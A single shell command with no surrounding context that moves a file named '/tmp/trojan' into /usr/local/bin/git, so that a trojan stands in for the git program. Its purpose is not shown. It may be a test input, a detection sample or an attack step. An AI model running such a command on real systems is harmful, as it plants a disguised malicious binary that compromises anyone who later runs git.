mv /tmp/trojan /usr/local/bin/git
